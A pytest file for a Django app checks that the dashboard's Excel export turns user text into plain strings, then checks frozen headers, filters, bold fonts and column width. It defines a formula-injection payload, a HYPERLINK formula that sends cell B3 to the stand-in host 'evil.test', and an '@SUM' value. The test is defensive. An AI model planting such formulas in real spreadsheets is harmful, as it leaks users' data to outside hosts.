"""The dashboard workbook: no live formula from user text, tables that filter and freeze."""

from __future__ import annotations

import datetime
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from tests.regulations.factories import RegulationFactory

HOSTILE = '=HYPERLINK("http://evil.test/?"&B3,"Xem văn bản")'


@pytest.mark.django_db
def test_dashboard_workbook_neutralises_formulas(world, client_for):
    overdue_since = timezone.localdate() - datetime.timedelta(days=40)
    RegulationFactory(
        host_agency=world.vks_ks, partners=[world.ta_ks], number="@SUM(1+1)", title=HOSTILE, due=overdue_since
    )
    response = client_for(world.kh_leader).get(reverse("dashboard:export_xlsx"))
    assert response.status_code == 200
    wb = load_workbook(io.BytesIO(response.content))
    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]
    assert not [f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type == "f"]
    sheet = wb["Quá hạn sơ kết"]
    row = [c for c in sheet[2]]
    assert row[0].value == "'@SUM(1+1)" and row[0].data_type == "s"
    assert row[1].value == "'" + HOSTILE and row[1].data_type == "s"
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:E2"
    assert all(c.font.bold for c in sheet[1])
    assert sheet.column_dimensions["B"].width == 60
